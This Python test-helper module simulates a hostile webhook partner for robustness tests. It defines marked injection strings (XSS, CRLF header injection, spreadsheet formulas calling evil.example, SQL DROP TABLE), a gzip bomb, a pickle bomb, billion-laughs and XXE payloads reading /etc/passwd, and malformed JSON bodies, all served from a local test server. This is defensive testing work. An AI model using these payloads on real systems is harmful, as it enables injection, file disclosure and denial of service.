"""What a hostile partner might answer: words that do something where they are shown, bodies that break a reader."""

from __future__ import annotations

import base64
import gzip
import hashlib
import hmac
import json
import pickle
import socketserver
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from typing import Any

#: Each with a mark of its own, by which it is looked for wherever something is shown.
MARK = "Zz9Hostile"
WORDS = {
    "script": f"<script>{MARK}(1)</script>",
    "image": f"\"'><img src=x onerror={MARK}()>",
    "lines": f"yes\r\nBcc: all@evil.example\r\n\r\n{MARK}",
    "log line": f'ok"}}\n{{"event":"{MARK}","level":"info"}}',
    "colours": f"\x1b[2J\x1b]0;{MARK}\x07\x1b[31m",
    "bidi": f"{MARK}\u202eneppoh reven\u2066\u2067",
    "formula": f'=HYPERLINK("http://evil.example/?{MARK}","x")',
    "wide formula": f"\uff1dcmd|'/c calc'!{MARK}",
    "template": f"{{{{ 7*7 }}}}{{% raw %}}${{7*7}}{MARK}",
    "statement": f"'); DROP TABLE answers; -- {MARK}",
    "nothing": f"\u0000{MARK}\u0000",
    "long": MARK * 1_000,
}


class Executed(Exception):
    """A pickle was obeyed."""


class Bomb:
    """What a pickle would do to whoever opened it."""

    def __reduce__(self) -> tuple[Callable[[str], Any], tuple[str]]:
        return _explode, (MARK,)


def _explode(what: str) -> None:
    raise Executed(what)


PICKLE = pickle.dumps(Bomb())
GZIP_BOMB = gzip.compress(bytes(60_000_000), 9)
_ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
XML = {
    "laughs": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "{MARK}">{_ENTITIES}]><a><status>&l9;</status></a>',
    "outside": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a><hub_key>&x;</hub_key></a>',
    "definition": '<!DOCTYPE a SYSTEM "http://127.0.0.1:9/evil.dtd"><a><hub_key>1</hub_key></a>',
    "parameter": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p">%p;]><a/>',
    "deep": "<a>" * 200_000,
    "wide": "<Bundle>" + "<a/>" * 200_000 + "</Bundle>",
    "lines": "<a><hub_key>" + "\n" * 400_000 + "</hub_key></a>",
    "attributes": "<Bundle " + " ".join(f'a{n}="1"' for n in range(50_000)) + "/>",
}


def bodies(key: str) -> dict[str, bytes]:
    """Bodies that are no answer, or hardly one, about the delivery with this key."""
    named = f'"idempotencyKey":"{key}"'
    whole = {
        "nothing": b"",
        "not json": f"{MARK} = yes".encode(),
        "an array": b"[]",
        "a word": b'"ACCEPTED"',
        "deep": f'{{{named},"status":'.encode() + b"[" * 100_000,
        "deep and whole": f'{{{named},"x":'.encode() + b"[" * 50_000 + b"]" * 50_000 + b"}",
        "a huge number": f'{{{named},"status":{"9" * 100_000}}}'.encode(),
        "no number": f'{{{named},"status":NaN,"nextDate":1e999,"owner":-Infinity}}'.encode(),
        "half a character": f'{{{named},"status":"\\ud800","owner":"\\udfff\\ud800"}}'.encode(),
        "not utf-8": b'{"idempotencyKey":"\xff\xfe\xfa"}',
        "wide characters": json.dumps({"idempotencyKey": key}).encode("utf-16"),
        "other types": f'{{{named},"status":["ACCEPTED"],"owner":{{"a":1}},"outcomeNote":7,"nextDate":[]}}'.encode(),
        "no key": b'{"status":"ACCEPTED"}',
        "another's key": b'{"idempotencyKey":"../../etc/passwd","status":"ACCEPTED"}',
        "a key of everything": b'{"idempotencyKey":{"$ne":null},"status":"ACCEPTED"}',
        "packed": gzip.compress(f'{{{named},"status":"ACCEPTED"}}'.encode()),
        "a bomb": GZIP_BOMB,
        "an archive": b"PK\x03\x04" + zlib.compress(bytes(1_000_000)),
        "a pickle": PICKLE,
        "many names": b"{" + b",".join(b'"a%d":%d' % (n, n) for n in range(50_000)) + b"}",
    }
    return whole | {f"xml: {name}": text.encode() for name, text in XML.items()} | {
        f"xml in UTF-16: {name}": XML[name].encode("utf-16-le") for name in ("laughs", "outside", "definition")
    }  # fmt: skip


def signed(body: bytes, secret: str, content_type: str = "application/json") -> dict[str, str]:
    """Headers that prove any bytes, as Standard Webhooks has it: the official library signs text alone."""
    identity, moment = f"msg_{time.time_ns()}", str(int(time.time()))
    key = base64.b64decode(secret.removeprefix("whsec_"))
    proof = hmac.digest(key, f"{identity}.{moment}.".encode() + body, hashlib.sha256)
    return {
        "content-type": content_type,
        "webhook-id": identity,
        "webhook-timestamp": moment,
        "webhook-signature": f"v1,{base64.b64encode(proof).decode()}",
    }


@dataclass
class Asked:
    """One request that a hostile server got."""

    method: str
    path: str
    body: bytes = field(repr=False)


#: What it sends back, byte for byte, status line and all.
Answers = Callable[[Asked], bytes]


def reply(body: bytes, *more: str, status: str = "200 OK", content_type: str = "application/json") -> bytes:
    """A whole HTTP reply, with header lines as they are given."""
    head = [f"HTTP/1.1 {status}", f"content-type: {content_type}", f"content-length: {len(body)}", *more]
    return "\r\n".join([*head, "connection: close", "", ""]).encode("latin-1") + body


def as_reply(document: Any, **how: Any) -> bytes:
    """A reply in JSON."""
    return reply(json.dumps(document).encode(), **how)


@contextmanager
def answering(answers: Answers) -> Iterator[str]:
    """Serve a partner that sends whatever bytes it likes; yields its URL."""

    class Handler(socketserver.StreamRequestHandler):
        timeout = 20

        def handle(self) -> None:
            method, path, *_ = self.rfile.readline().decode("latin-1").split(" ")
            length = 0
            while (line := self.rfile.readline().strip().lower()) != b"":
                name, _, value = line.partition(b":")
                length = int(value) if name == b"content-length" else length
            with suppress(OSError):  # whoever asked may have had enough of it
                self.wfile.write(answers(Asked(method, path, self.rfile.read(length))))

    class Server(socketserver.ThreadingTCPServer):
        allow_reuse_address = daemon_threads = True
        request_queue_size = 64

        def handle_error(self, *_: object) -> None:
            """Say nothing."""

    with Server(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}"
        finally:
            server.shutdown()
            thread.join()
